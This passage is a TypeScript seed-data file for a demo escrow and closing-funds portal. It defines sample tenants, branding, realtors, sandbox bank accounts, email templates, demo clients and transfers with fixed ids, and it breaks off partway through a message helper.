/**
 * Demo data, one array per table, in insertion (foreign key) order. Ids are fixed so e2e
 * tests and docs can name them. To extend the seed, add an array here and one insert in seed.ts.
 */
import type {
  bankAccount,
  branding,
  client,
  clientDocument,
  clientMessage,
  emailTemplate,
  institutionLogo,
  office,
  realtor,
  tenant,
  tenantGroup,
  transfer,
  transferFeeConfig,
  transferType,
  unsupportedAccountRule,
} from './schema';
import { MODULES } from '@portal/shared/constants';
import type { SandboxSeededAccount } from '../providers/bank-linking/sandbox/sandbox-bank-linking-provider';

type Row<T extends { $inferInsert: unknown }> = T['$inferInsert'];

/** Images are inline SVG data URLs, so the seed works with no asset files (CSP img-src needs `data:`). */
function svgDataUrl(svg: string): string {
  return `data:image/svg+xml;base64,${Buffer.from(svg).toString('base64')}`;
}

function monogram(letters: string, background: string, size = 64): string {
  return svgDataUrl(
    `<svg xmlns="http://www.w3.org/2000/svg" width="${size}" height="${size}" viewBox="0 0 64 64">` +
      `<rect width="64" height="64" rx="12" fill="${background}"/>` +
      `<text x="32" y="41" font-family="Arial, sans-serif" font-size="26" font-weight="700" fill="#fff" text-anchor="middle">${letters}</text>` +
      `</svg>`,
  );
}

function wordmark(letters: string, name: string, mark: string, text: string, fontFamily: string): string {
  return svgDataUrl(
    `<svg xmlns="http://www.w3.org/2000/svg" width="260" height="48" viewBox="0 0 260 48">` +
      `<rect width="48" height="48" rx="10" fill="${mark}"/>` +
      `<text x="24" y="32" font-family="${fontFamily}" font-size="22" font-weight="700" fill="#fff" text-anchor="middle">${letters}</text>` +
      `<text x="60" y="31" font-family="${fontFamily}" font-size="18" font-weight="700" fill="${text}">${name}</text>` +
      `</svg>`,
  );
}

export const IDS = {
  groups: {
    partners: 'a0000000-0000-4000-8000-000000000001',
    acme: 'a0000000-0000-4000-8000-000000000002',
  },
  tenants: {
    demo: 'b0000000-0000-4000-8000-000000000001',
    acme: 'b0000000-0000-4000-8000-000000000002',
    summit: 'b0000000-0000-4000-8000-000000000003',
    hostile: 'b0000000-0000-4000-8000-000000000099',
  },
  brandings: {
    default: 'c0000000-0000-4000-8000-000000000001',
    demo: 'c0000000-0000-4000-8000-000000000002',
    acme: 'c0000000-0000-4000-8000-000000000003',
    acmeRetired: 'c0000000-0000-4000-8000-000000000004',
    hostile: 'c0000000-0000-4000-8000-000000000099',
  },
  transferTypes: {
    clientTransfer: 'd0000000-0000-4000-8000-000000000001',
    clientDisbursement: 'd0000000-0000-4000-8000-000000000002',
  },
  realtors: {
    jane: 'acac00000000000000000001',
    marco: 'acac00000000000000000002',
    retired: 'acac00000000000000000003',
  },
  offices: {
    springfield: '0f000000-0000-4000-8000-000000000001',
    chicago: '0f000000-0000-4000-8000-000000000002',
    peoria: '0f000000-0000-4000-8000-000000000003',
    decatur: '0f000000-0000-4000-8000-000000000004',
  },
  /** Demo clients: sign in with their phone (see DEMO_CLIENTS and docs/sandbox.md). */
  clients: {
    dana: 'e0000000-0000-4000-8000-000000000001',
    ivy: 'e0000000-0000-4000-8000-000000000002',
    nina: 'e0000000-0000-4000-8000-000000000003',
    alex: 'e0000000-0000-4000-8000-000000000011',
    sam: 'e0000000-0000-4000-8000-000000000021',
  },
  bankAccounts: {
    demoEscrow: 'f0000000-0000-4000-8000-000000000091',
    acmeEscrow: 'f0000000-0000-4000-8000-000000000092',
    summitEscrow: 'f0000000-0000-4000-8000-000000000093',
    danaChecking: 'f0000000-0000-4000-8000-000000000001',
    danaPending: 'f0000000-0000-4000-8000-000000000002',
    danaSavings: 'f0000000-0000-4000-8000-000000000003',
    ivyChecking: 'f0000000-0000-4000-8000-000000000004',
    alexChecking: 'f0000000-0000-4000-8000-000000000011',
    samChecking: 'f0000000-0000-4000-8000-000000000021',
  },
  /** Dana's transfers, one per status of spec §4 (Initiated is Ivy's), and the other clients'. */
  transfers: {
    draft: '70000000-0000-4000-8000-000000000001',
    pending: '70000000-0000-4000-8000-000000000002',
    submitted: '70000000-0000-4000-8000-000000000003',
    sent: '70000000-0000-4000-8000-000000000004',
    viewed: '70000000-0000-4000-8000-000000000005',
    completed: '70000000-0000-4000-8000-000000000006',
    cancelled: '70000000-0000-4000-8000-000000000007',
    error: '70000000-0000-4000-8000-000000000008',
    requested: '70000000-0000-4000-8000-000000000009',
    created: '70000000-0000-4000-8000-000000000010',
    rejected: '70000000-0000-4000-8000-000000000011',
    awaitingApproval: '70000000-0000-4000-8000-000000000012',
    draftDisbursement: '70000000-0000-4000-8000-000000000013',
    ivyInitiated: '70000000-0000-4000-8000-000000000021',
    alexCompleted: '70000000-0000-4000-8000-000000000031',
    alexDraft: '70000000-0000-4000-8000-000000000032',
    samPending: '70000000-0000-4000-8000-000000000041',
  },
} as const;

/** Ids the payments sandbox accepts as existing (CONTRACTS.md "Seeded demo accounts"). */
export const sandboxCustomerId = (clientId: string) => `sandbox-customer-${clientId}`;
export const sandboxFundingSourceId = (bankAccountId: string) => `sandbox-fs-${bankAccountId}`;
/** The bank-linking sandbox's item, account and access token of a seeded client account. */
export const sandboxLinkIds = (bankAccountId: string) => ({
  itemId: `item-sandbox-seed-${bankAccountId}`,
  accountId: `acct-sandbox-seed-${bankAccountId}`,
  accessToken: `access-sandbox-seed-${bankAccountId}`,
});

export const DEFAULT_PURPOSE = 'Earnest Money Deposit for Purchase';

export const tenantGroups: Row<typeof tenantGroup>[] = [
  {
    id: IDS.groups.partners,
    groupName: 'Closing Partners Network',
    logoURL: monogram('CP', '#1B2A4A'),
    groupTagline: 'Independent title and escrow, together',
    bannerColor: '#1B2A4A',
  },
  {
    id: IDS.groups.acme,
    groupName: 'Acme Holdings',
    logoURL: monogram('AH', '#7A1F2B'),
    groupTagline: 'Escrow since 1952',
    bannerColor: '#7A1F2B',
  },
];

export const tenants: Row<typeof tenant>[] = [
  {
    id: IDS.tenants.demo,
    tenantGroupId: IDS.groups.partners,
    name: 'Demo Title & Escrow',
    description: 'Title and escrow services for residential closings.',
    identifier: 'demo',
    type: 'title',
    address1: '100 Main Street',
    address2: 'Suite 200',
    city: 'Springfield',
    state: 'IL',
    zipcode: '62701',
    supportEmail: 'support@demo-title.example',
    pocPhone: '(555) 010-2000',
    routingType: 'office',
    enabledModules: [...MODULES],
  },
  {
    id: IDS.tenants.acme,
    tenantGroupId: IDS.groups.acme,
    name: 'Acme Escrow Co.',
    description: 'Escrow for buyers and sellers across Texas.',
    identifier: 'acme',
    type: 'escrow',
    address1: '2500 Commerce Boulevard',
    address2: null,
    city: 'Austin',
    state: 'TX',
    zipcode: '78701',
    supportEmail: 'help@acme-escrow.example',
    pocPhone: '(555) 010-3000',
    routingType: 'agent',
    enabledModules: [...MODULES],
  },
  {
    id: IDS.tenants.summit,
    tenantGroupId: IDS.groups.partners,
    name: 'Summit Closing Services',
    description: 'Closings in the Rocky Mountain region.',
    identifier: 'summit',
    type: 'title',
    address1: '77 Summit Avenue',
    address2: 'Floor 3',
    city: 'Denver',
    state: 'CO',
    zipcode: '80202',
    supportEmail: 'closings@summit-closing.example',
    pocPhone: '(555) 010-4000',
    routingType: 'other',
    // No message center for this tenant; it also has no branding row (the default applies).
    enabledModules: ['onboarding', 'banking', 'transfers'],
  },
];

export const brandings: Row<typeof branding>[] = [
  {
    id: IDS.brandings.default,
    tenantId: null,
    isDefault: true,
    active: true,
    description: 'Closing Portal default branding',
    logoURL: wordmark('CP', 'Closing Portal', '#2563EB', '#1F2937', 'Poppins, Arial, sans-serif'),
    faviconImgURL: monogram('CP', '#2563EB', 32),
    backgroundImageURL: null,
    header: null,
    footer: '<div class="brand-footer">Closing Portal</div>',
    registerText: 'Send your closing funds securely from your own bank account.',
    registerButtonText: 'Create Account',
    fontFamily: 'Poppins',
    fontSize: '16px',
    fontColor: '#1F2937',
    fontWeight: '400',
    backgroundColor: '#F5F7FA',
    linkColor: '#2563EB',
    buttonColor: '#2563EB',
    accentColor: '#10B981',
    customCSS: null,
  },
  {
    id: IDS.brandings.demo,
    tenantId: IDS.tenants.demo,
    active: true,
    description: 'Demo Title & Escrow',
    logoURL: wordmark('D', 'Demo Title &amp; Escrow', '#0F8B8D', '#1B2A4A', 'Poppins, Arial, sans-serif'),
    faviconImgURL: monogram('D', '#0F8B8D', 32),
    backgroundImageURL: null,
    header: '<div class="brand-header"><strong>Demo Title &amp; Escrow</strong></div>',
    footer:
      '<div class="brand-footer">Demo Title &amp; Escrow · 100 Main Street, Suite 200, Springfield, IL 62701 · (555) 010-2000</div>',
    registerText: 'Send your earnest money to Demo Title & Escrow securely, straight from your bank account.',
    registerButtonText: 'Create Account',
    fontFamily: 'Poppins',
    fontSize: '16px',
    fontColor: '#1B2A4A',
    fontWeight: '400',
    backgroundColor: '#F4F8FA',
    linkColor: '#0F8B8D',
    buttonColor: '#0F8B8D',
    accentColor: '#1B2A4A',
    customCSS: '.brand-header { letter-spacing: 0.02em; }',
  },
  {
    id: IDS.brandings.acme,
    tenantId: IDS.tenants.acme,
    active: true,
    description: 'Acme Escrow Co.',
    logoURL: wordmark('A', 'Acme Escrow Co.', '#7A1F2B', '#3B0D14', 'Georgia, serif'),
    faviconImgURL: monogram('A', '#7A1F2B', 32),
    backgroundImageURL: null,
    header: '<div class="brand-header"><strong>Acme Escrow Co.</strong> <em>Closing made simple</em></div>',
    footer: '<div class="brand-footer">Acme Escrow Co. · 2500 Commerce Boulevard, Austin, TX 78701</div>',
    registerText: 'Pay your escrow deposit to Acme Escrow Co. in minutes.',
    registerButtonText: 'Get Started',
    fontFamily: 'Georgia',
    fontSize: '17px',
    fontColor: '#3B0D14',
    fontWeight: '400',
    backgroundColor: '#FBF7F4',
    linkColor: '#A4343F',
    buttonColor: '#7A1F2B',
    accentColor: '#D4A373',
    customCSS: '.brand-header em { font-style: italic; }',
  },
  {
    // A retired branding, so `active: true` filters have something to filter out.
    id: IDS.brandings.acmeRetired,
    tenantId: IDS.tenants.acme,
    active: false,
    description: 'Acme Escrow Co. (2019, retired)',
    fontFamily: 'Times New Roman',
    buttonColor: '#000000',
  },
];

const demoOffice = (id: string, title: string, city: string, active = true): Row<typeof office> => ({
  id,
  tenantId: IDS.tenants.demo,
  title,
  city,
  state: 'IL',
  active,
});

export const offices: Row<typeof office>[] = [
  demoOffice(IDS.offices.springfield, 'Springfield Downtown', 'Springfield'),
  demoOffice(IDS.offices.chicago, 'Chicago Lakeside', 'Chicago'),
  demoOffice(IDS.offices.peoria, 'Peoria Riverfront', 'Peoria'),
  demoOffice(IDS.offices.decatur, 'Decatur (closed)', 'Decatur', false),
];

const acmeBrokerage = {
  name: 'Acme Realty Group',
  websiteURL: 'https://acme-realty.example',
  officePhone: '(555) 010-3100',
};

export const realtors: Row<typeof realtor>[] = [
  {
    id: IDS.realtors.jane,
    tenantId: IDS.tenants.acme,
    firstName: 'Jane',
    lastName: 'Realtor',
    displayName: 'Jane Realtor',
    displayDescription: 'Helping Austin families buy and sell homes for 12 years.',
    email: 'jane@acme-realty.example',
    mobilePhone: '+15550103001',
    landingPageURI: 'jane-realtor',
    headshotImageURL: monogram('JR', '#A4343F', 128),
    licenses: [{ state: 'TX', licenseNumber: 'TX-0654321' }],
    brokerage: acmeBrokerage,
    active: true,
  },
  {
    id: IDS.realtors.marco,
    tenantId: IDS.tenants.acme,
    firstName: 'Marco',
    lastName: 'Diaz',
    displayName: 'Marco Diaz',
    displayDescription: 'First-time buyers and investment properties in Central Texas.',
    email: 'marco@acme-realty.example',
    mobilePhone: '+15550103002',
    landingPageURI: 'marco-diaz',
    headshotImageURL: monogram('MD', '#D4A373', 128),
    licenses: [
      { state: 'TX', licenseNumber: 'TX-0712345' },
      { state: 'OK', licenseNumber: 'OK-181818' },
    ],
    brokerage: acmeBrokerage,
    active: true,
  },
  {
    id: IDS.realtors.retired,
    tenantId: IDS.tenants.acme,
    firstName: 'Pat',
    lastName: 'Former',
    displayName: 'Pat Former',
    landingPageURI: 'pat-former',
    licenses: [],
    active: false,
  },
];

export const transferTypes: Row<typeof transferType>[] = [
  {
    id: IDS.transferTypes.clientTransfer,
    name: 'Client Transfer',
    // Spec §7: the browser asks for the credit type (money credited to the tenant's escrow).
    isDebit: false,
    isCredit: true,
    purpose: {
      purposes: [DEFAULT_PURPOSE, 'Down Payment', 'Closing Costs', 'Option Fee', 'Other'],
    },
  },
  {
    id: IDS.transferTypes.clientDisbursement,
    name: 'Client Disbursement',
    isDebit: true,
    isCredit: false,
    purpose: {
      purposes: ['Seller Proceeds', 'Earnest Money Refund', 'Overpayment Refund', 'Other'],
    },
  },
];

export const transferFeeConfigs: Row<typeof transferFeeConfig>[] = [
  // The client pays a $2.50 convenience fee on top of the amount.
  { tenantId: IDS.tenants.demo, clientPays: true, amountCents: 250 },
  // The tenant absorbs the fee: the client sees no convenience fee.
  { tenantId: IDS.tenants.acme, clientPays: false, amountCents: 250 },
];

function escrowAccount(id: string, tenantId: string, tenantName: string, lastFour: string): Row<typeof bankAccount> {
  return {
    id,
    tenantId,
    ownerType: 'tenant',
    bankName: 'First Platypus Bank',
    name: `${tenantName} Escrow Trust Account`,
    bankDisplayName: 'First Platypus Bank',
    description: 'Escrow trust account receiving client transfers',
    accountNumber: `******${lastFour}`,
    accountLastFourDigits: lastFour,
    accountSubtype: 'checking',
    institutionCode: 'ins_109508',
    pendingVerification: false,
    active: true,
    // The payments sandbox knows every `sandbox-fs-<id>` as a verified funding source.
    fundingSourceId: sandboxFundingSourceId(id),
  };
}

export const escrowAccounts: Row<typeof bankAccount>[] = [
  escrowAccount(IDS.bankAccounts.demoEscrow, IDS.tenants.demo, 'Demo Title & Escrow', '4321'),
  escrowAccount(IDS.bankAccounts.acmeEscrow, IDS.tenants.acme, 'Acme Escrow Co.', '7788'),
  escrowAccount(IDS.bankAccounts.summitEscrow, IDS.tenants.summit, 'Summit Closing Services', '9012'),
];

/** Plaid sandbox institutions, which the sandbox bank-linking dialog imitates (one logo each). */
export const institutionLogos: Row<typeof institutionLogo>[] = [
  { institutionCode: 'ins_109508', logoURL: monogram('FP', '#2E7D32') },
  { institutionCode: 'ins_109509', logoURL: monogram('FG', '#6A1B9A') },
  { institutionCode: 'ins_109510', logoURL: monogram('TF', '#00695C') },
  { institutionCode: 'ins_109511', logoURL: monogram('TB', '#C62828') },
  { institutionCode: 'ins_109512', logoURL: monogram('HB', '#37474F') },
  { institutionCode: 'ins_109513', logoURL: monogram('HS', '#4E342E') },
];

/** Non-transactional accounts (spec §4, §8 Bank Notice): First Gingham Credit Union's savings. */
export const unsupportedAccountRules: Row<typeof unsupportedAccountRule>[] = [
  {
    institutionCode: 'ins_109509',
    accountSubtype: 'savings',
    reason: 'Savings accounts at this credit union are non-transactional: link a checking account.',
  },
];

/** Product-wide templates (tenant null); {{placeholders}} are filled by the e-mail job. */
export const emailTemplates: Row<typeof emailTemplate>[] = [
  {
    label: 'transfer_request',
    subject: '{{tenantName}} requests a transfer',
    bodyHtml:
      '<p>Hello {{clientFirstName}},</p><p>{{tenantName}} has requested a transfer of {{amount}} for {{propertyAddress}}.</p><p><a href="{{portalUrl}}">Open the portal</a> to send it.</p>',
  },
  {
    label: 'transfer_initiated',
    subject: 'Your transfer to {{tenantName}} has started',
    bodyHtml:
      '<p>Hello {{clientFirstName}},</p><p>Your transfer of {{amount}} to {{tenantName}} for {{propertyAddress}} is pending. Funds are expected by the next business day.</p>',
  },
  {
    label: 'transfer_receipt',
    subject: 'Receipt: transfer to {{tenantName}}',
    bodyHtml:
      '<p>Transfer receipt</p><p>Amount: {{amount}}<br>Fee: {{fee}}<br>Total: {{total}}<br>Property: {{propertyAddress}}<br>Date: {{date}}</p>',
  },
  {
    label: 'transfer_fail',
    subject: 'Your transfer to {{tenantName}} could not be completed',
    bodyHtml:
      '<p>Hello {{clientFirstName}},</p><p>Your transfer of {{amount}} could not be completed. Please contact {{tenantName}} at {{supportPhone}} or {{supportEmail}}.</p>',
  },
];

// ---- Demo clients and their history (sandbox and e2e) ----
// Sign in with the phone, read the code in the sandbox inbox (/api/sandbox). SSN and date of
// birth are not seeded: they are sealed with the running server's keys, so a demo client
// enters them once at step 2. Dates are relative to the moment of seeding, so the message
// center's default range (last 7 days) always has something in it.

const SEEDED_AT = Date.now();
const HOUR_MS = 3_600_000;
/** A time `days` (and `hours`) before seeding. */
export function ago(days: number, hours = 0): Date {
  return new Date(SEEDED_AT - days * 24 * HOUR_MS - hours * HOUR_MS);
}

/** Who to sign in as, for people trying the product and for e2e tests. */
export const DEMO_CLIENTS = {
  /** demo: full history (a transfer in every status, messages of every type), three bank accounts. */
  dana: { id: IDS.clients.dana, tenant: 'demo', mobilePhone: '+15550101001', name: 'Dana Demo' },
  /** demo: one transfer the tenant Initiated: signing in routes her into the flow (spec §2). */
  ivy: { id: IDS.clients.ivy, tenant: 'demo', mobilePhone: '+15550101002', name: 'Ivy Initiated' },
  /** demo: just registered, no e-mail yet: signing in goes to /account (spec §2). */
  nina: { id: IDS.clients.nina, tenant: 'demo', mobilePhone: '+15550101003', name: 'Nina New' },
  /** acme (routes by agent; the tenant pays the fee). */
  alex: { id: IDS.clients.alex, tenant: 'acme', mobilePhone: '+15550101011', name: 'Alex Acme' },
  /** summit (no message center). */
  sam: { id: IDS.clients.sam, tenant: 'summit', mobilePhone: '+15550101021', name: 'Sam Summit' },
} as const;

export const demoClients: Row<typeof client>[] = [
  {
    id: IDS.clients.dana,
    paymentsCustomerId: sandboxCustomerId(IDS.clients.dana),
    paymentsCustomerStatus: 'verified',
    tenantId: IDS.tenants.demo,
    firstName: 'Dana',
    lastName: 'Demo',
    email: 'dana.demo@example.com',
    mobilePhone: DEMO_CLIENTS.dana.mobilePhone,
    address1: '12 Elm Street',
    city: 'Springfield',
    state: 'IL',
    zipcode: '62704',
    createdAt: ago(40),
  },
  {
    id: IDS.clients.ivy,
    paymentsCustomerId: sandboxCustomerId(IDS.clients.ivy),
    paymentsCustomerStatus: 'verified',
    tenantId: IDS.tenants.demo,
    firstName: 'Ivy',
    lastName: 'Initiated',
    email: 'ivy.initiated@example.com',
    mobilePhone: DEMO_CLIENTS.ivy.mobilePhone,
    address1: '789 Pine Road',
    city: 'Springfield',
    state: 'IL',
    zipcode: '62702',
    createdAt: ago(3),
  },
  {
    id: IDS.clients.nina,
    tenantId: IDS.tenants.demo,
    firstName: 'Nina',
    lastName: 'New',
    email: null,
    mobilePhone: DEMO_CLIENTS.nina.mobilePhone,
    createdAt: ago(0, 5),
  },
  {
    id: IDS.clients.alex,
    paymentsCustomerId: sandboxCustomerId(IDS.clients.alex),
    paymentsCustomerStatus: 'verified',
    tenantId: IDS.tenants.acme,
    firstName: 'Alex',
    lastName: 'Acme',
    email: 'alex.acme@example.com',
    mobilePhone: DEMO_CLIENTS.alex.mobilePhone,
    address1: '400 Congress Avenue',
    city: 'Austin',
    state: 'TX',
    zipcode: '78701',
    createdAt: ago(20),
  },
  {
    id: IDS.clients.sam,
    paymentsCustomerId: sandboxCustomerId(IDS.clients.sam),
    paymentsCustomerStatus: 'verified',
    tenantId: IDS.tenants.summit,
    firstName: 'Sam',
    lastName: 'Summit',
    email: 'sam.summit@example.com',
    mobilePhone: DEMO_CLIENTS.sam.mobilePhone,
    address1: '1600 Glenarm Place',
    city: 'Denver',
    state: 'CO',
    zipcode: '80202',
    createdAt: ago(12),
  },
];

/** Login users as registration creates them (spec §4). */
export const demoLoginUsers = demoClients.map((row) => ({
  clientId: row.id!,
  tenantId: row.tenantId,
  email: row.email ?? null,
  phoneNumber: row.mobilePhone,
  name: `${row.firstName} ${row.lastName}`,
}));

export function clientAccount(
  id: string,
  owner: { tenantId: string; clientId: string },
  bank: { name: string; institutionCode: string },
  account: {
    name: string;
    lastFour: string;
    subtype: 'checking' | 'savings';
    balanceCents: number | null;
    pendingVerification?: boolean;
    /** Unsupported accounts get no funding source (payments cannot debit them). */
    supported?: boolean;
  },
): Row<typeof bankAccount> {
  const pending = account.pendingVerification ?? false;
  return {
    id,
    ...owner,
    ownerType: 'client',
    bankName: bank.name,
    bankDisplayName: bank.name,
    name: account.name,
    description: `${bank.name} ${account.subtype} account`,
    accountNumber: `******${account.lastFour}`,
    accountLastFourDigits: account.lastFour,
    accountSubtype: account.subtype,
    institutionCode: bank.institutionCode,
    balanceCents: account.balanceCents,
    balanceDateTime: account.balanceCents === null ? null : ago(0, 1),
    pendingVerification: pending,
    active: true,
    linkItemId: sandboxLinkIds(id).itemId,
    linkAccountId: sandboxLinkIds(id).accountId,
    fundingSourceId: pending || account.supported === false ? null : sandboxFundingSourceId(id),
  };
}

export const PLATYPUS = { name: 'First Platypus Bank', institutionCode: 'ins_109508' };
const GINGHAM = { name: 'First Gingham Credit Union', institutionCode: 'ins_109509' };
const TARTAN = { name: 'Tartan Bank', institutionCode: 'ins_109511' };
const dana = { tenantId: IDS.tenants.demo, clientId: IDS.clients.dana };
const ivy = { tenantId: IDS.tenants.demo, clientId: IDS.clients.ivy };
const alex = { tenantId: IDS.tenants.acme, clientId: IDS.clients.alex };
const sam = { tenantId: IDS.tenants.summit, clientId: IDS.clients.sam };

export const demoBankAccounts: Row<typeof bankAccount>[] = [
  // Verified, with a balance.
  clientAccount(IDS.bankAccounts.danaChecking, dana, PLATYPUS, {
    name: 'Plaid Checking',
    lastFour: '1001',
    subtype: 'checking',
    balanceCents: 2_500_000,
  }),
  // Micro-deposits outstanding: 'VERIFY', balance unknown.
  clientAccount(IDS.bankAccounts.danaPending, dana, TARTAN, {
    name: 'Tartan Checking',
    lastFour: '2002',
    subtype: 'checking',
    balanceCents: null,
    pendingVerification: true,
  }),
  // A savings account at the credit union whose savings cannot be debited: 'Unsupported'.
  clientAccount(IDS.bankAccounts.danaSavings, dana, GINGHAM, {
    name: 'Gingham Savings',
    lastFour: '3003',
    subtype: 'savings',
    balanceCents: 80_000,
    supported: false,
  }),
  clientAccount(IDS.bankAccounts.ivyChecking, ivy, PLATYPUS, {
    name: 'Plaid Checking',
    lastFour: '4004',
    subtype: 'checking',
    balanceCents: 900_000,
  }),
  clientAccount(IDS.bankAccounts.alexChecking, alex, PLATYPUS, {
    name: 'Plaid Checking',
    lastFour: '1111',
    subtype: 'checking',
    balanceCents: 1_200_000,
  }),
  clientAccount(IDS.bankAccounts.samChecking, sam, TARTAN, {
    name: 'Tartan Checking',
    lastFour: '2121',
    subtype: 'checking',
    balanceCents: 640_000,
  }),
];

const DEMO_FEE_CENTS = 250;

interface DemoTransfer {
  id: string;
  status: string;
  days: number;
  hours?: number;
  amountCents: number;
  property: [address1: string, city: string, zipcode: string];
  purpose?: string;
  disbursement?: boolean;
  /** Tenant-created requests have no source account until the client picks one. */
  fromClient?: boolean;
  failureCode?: string;
}

const danaTransfers: DemoTransfer[] = [
  {
    id: IDS.transfers.draft,
    status: 'draft',
    days: 1,
    amountCents: 500_000,
    property: ['123 Maple Street', 'Springfield', '62704'],
    fromClient: true,
  },
  {
    id: IDS.transfers.pending,
    status: 'pending',
    days: 0,
    hours: 2,
    amountCents: 250_000,
    property: ['456 Oak Avenue', 'Springfield', '62703'],
    fromClient: true,
  },
  {
    id: IDS.transfers.submitted,
    status: 'submitted',
    days: 4,
    amountCents: 1_000_000,
    property: ['88 Lakeshore Drive', 'Chicago', '60601'],
    purpose: 'Down Payment',
    fromClient: true,
  },
  {
    id: IDS.transfers.sent,
    status: 'sent',
    days: 5,
    amountCents: 125_000,
    property: ['17 Willow Court', 'Peoria', '61602'],
    purpose: 'Earnest Money Refund',
    disbursement: true,
  },
  {
    id: IDS.transfers.viewed,
    status: 'viewed',
    days: 6,
    amountCents: 750_000,
    property: ['300 Cedar Lane', 'Springfield', '62701'],
    purpose: 'Down Payment',
  },
  {
    id: IDS.transfers.completed,
    status: 'completed',
    days: 10,
    amountCents: 300_000,
    property: ['9 Birch Boulevard', 'Chicago', '60614'],
    fromClient: true,
  },
  {
    id: IDS.transfers.cancelled,
    status: 'cancelled',
    days: 14,
    amountCents: 100_000,
    property: ['55 Aspen Way', 'Peoria', '61604'],
    fromClient: true,
  },
  {
    id: IDS.transfers.error,
    status: 'error',
    days: 18,
    amountCents: 420_000,
    property: ['71 Spruce Street', 'Springfield', '62702'],
    fromClient: true,
    failureCode: 'R01',
  },
  {
    id: IDS.transfers.requested,
    status: 'Requested',
    days: 3,
    amountCents: 1_500_000,
    property: ['300 Cedar Lane', 'Springfield', '62701'],
    purpose: 'Closing Costs',
  },
  // Hidden from history (spec §4).
  {
    id: IDS.transfers.created,
    status: 'created',
    days: 20,
    amountCents: 50_000,
    property: ['1 Hidden Row', 'Springfield', '62701'],
  },
  {
    id: IDS.transfers.rejected,
    status: 'rejected',
    days: 22,
    amountCents: 60_000,
    property: ['2 Hidden Row', 'Springfield', '62701'],
    fromClient: true,
  },
  {
    id: IDS.transfers.awaitingApproval,
    status: 'awaiting approval',
    days: 25,
    amountCents: 70_000,
    property: ['3 Hidden Row', 'Springfield', '62701'],
  },
  {
    id: IDS.transfers.draftDisbursement,
    status: 'draft',
    days: 7,
    amountCents: 80_000,
    property: ['4 Hidden Row', 'Springfield', '62701'],
    purpose: 'Overpayment Refund',
    disbursement: true,
  },
];

function demoTransfer(
  owner: { tenantId: string; clientId: string },
  person: { firstName: string; lastName: string; email: string; mobilePhone: string },
  accounts: { source: string; escrow: string },
  feeCents: number,
  spec: DemoTransfer,
): Row<typeof transfer> {
  const [propertyAddress1, propertyCity, propertyZipcode] = spec.property;
  const disbursement = spec.disbursement ?? false;
  const createdAt = ago(spec.days, spec.hours);
  return {
    id: spec.id,
    ...owner,
    ...person,
    transferTypeId: disbursement ? IDS.transferTypes.clientDisbursement : IDS.transferTypes.clientTransfer,
    propertyAddress1,
    propertyCity,
    propertyState: owner.tenantId === IDS.tenants.demo ? 'IL' : owner.tenantId === IDS.tenants.acme ? 'TX' : 'CO',
    propertyZipcode,
    amountCents: spec.amountCents,
    feeCents: disbursement ? 0 : feeCents,
    purpose: spec.purpose ?? DEFAULT_PURPOSE,
    status: spec.status,
    disbursement,
    // A disbursement leaves the escrow account; the client picks where it lands.
    sourceBankAccountId: disbursement ? accounts.escrow : spec.fromClient ? accounts.source : null,
    destBankAccountId: disbursement ? null : accounts.escrow,
    escrowBankAccountId: accounts.escrow,
    failureCode: spec.failureCode ?? null,
    providerTransferId: spec.fromClient && spec.status !== 'draft' ? `sandbox-transfer-${spec.id.slice(-4)}` : null,
    notes: [],
    createdAt,
    updatedAt: createdAt,
  };
}

const danaPerson = {
  firstName: 'Dana',
  lastName: 'Demo',
  email: 'dana.demo@example.com',
  mobilePhone: DEMO_CLIENTS.dana.mobilePhone,
};
const danaAccounts = { source: IDS.bankAccounts.danaChecking, escrow: IDS.bankAccounts.demoEscrow };

/** What the transfer details form saves on a draft, beyond the basics. */
const danaDraftDetails: Partial<Row<typeof transfer>> = {
  officeId: IDS.offices.chicago,
  notes: [{ note: 'Earnest money for the accepted offer' }],
  otherIndividuals: { agentFullName: 'Riley Agent', email: 'riley@agents.example', phoneNumber: '+15550102001' },
  expectedClosingDate: ago(-30).toISOString().slice(0, 10),
  sellerName: 'Morgan Seller',
};

/** What the tenant's request set beyond the basics (step-3 shows them prefilled). */
const danaRequestDetails: Partial<Row<typeof transfer>> = {
  sellerName: 'Morgan Seller',
  expectedClosingDate: ago(-21).toISOString().slice(0, 10),
};

const alexPerson = {
  firstName: 'Alex',
  lastName: 'Acme',
  email: 'alex.acme@example.com',
  mobilePhone: DEMO_CLIENTS.alex.mobilePhone,
};
const alexAccounts = { source: IDS.bankAccounts.alexChecking, escrow: IDS.bankAccounts.acmeEscrow };

export const demoTransfers: Row<typeof transfer>[] = [
  ...danaTransfers.map((spec) => ({
    ...demoTransfer(dana, danaPerson, danaAccounts, DEMO_FEE_CENTS, spec),
    officeId: IDS.offices.springfield,
    ...(spec.id === IDS.transfers.draft ? danaDraftDetails : {}),
    ...(spec.id === IDS.transfers.requested ? danaRequestDetails : {}),
  })),
  {
    ...demoTransfer(
      ivy,
      {
        firstName: 'Ivy',
        lastName: 'Initiated',
        email: 'ivy.initiated@example.com',
        mobilePhone: DEMO_CLIENTS.ivy.mobilePhone,
      },
      { source: IDS.bankAccounts.ivyChecking, escrow: IDS.bankAccounts.demoEscrow },
      DEMO_FEE_CENTS,
      {
        id: IDS.transfers.ivyInitiated,
        status: 'Initiated',
        days: 0,
        hours: 6,
        amountCents: 200_000,
        property: ['789 Pine Road', 'Springfield', '62702'],
      },
    ),
    officeId: IDS.offices.springfield,
    emailMessage: 'Please send your earnest money deposit for 789 Pine Road.',
  },
  {
    ...demoTransfer(alex, alexPerson, alexAccounts, 0, {
      id: IDS.transfers.alexCompleted,
      status: 'completed',
      days: 9,
      amountCents: 600_000,
      property: ['2200 Barton Springs Road', 'Austin', '78704'],
      fromClient: true,
    }),
    agentId: IDS.realtors.jane,
    realtorId: IDS.realtors.jane,
  },
  {
    ...demoTransfer(alex, alexPerson, alexAccounts, 0, {
      id: IDS.transfers.alexDraft,
      status: 'draft',
      days: 1,
      amountCents: 150_000,
      property: ['5 Rainey Street', 'Austin', '78701'],
      fromClient: true,
    }),
    agentId: IDS.realtors.marco,
  },
  demoTransfer(
    sam,
    {
      firstName: 'Sam',
      lastName: 'Summit',
      email: 'sam.summit@example.com',
      mobilePhone: DEMO_CLIENTS.sam.mobilePhone,
    },
    { source: IDS.bankAccounts.samChecking, escrow: IDS.bankAccounts.summitEscrow },
    0,
    {
      id: IDS.transfers.samPending,
      status: 'pending',
      days: 2,
      amountCents: 350_000,
      property: ['1700 Lincoln Street', 'Denver', '80203'],
      fromClient: true,
    },
  ),
];

function message(
  id: string,
  owner: { tenantId: string; clientId: string },
  type: (typeof clientMessage.$inferInsert)['type'],
  transferId: string,
  days: number,
  hours = 0,
): Row<typeof clientMessage> {
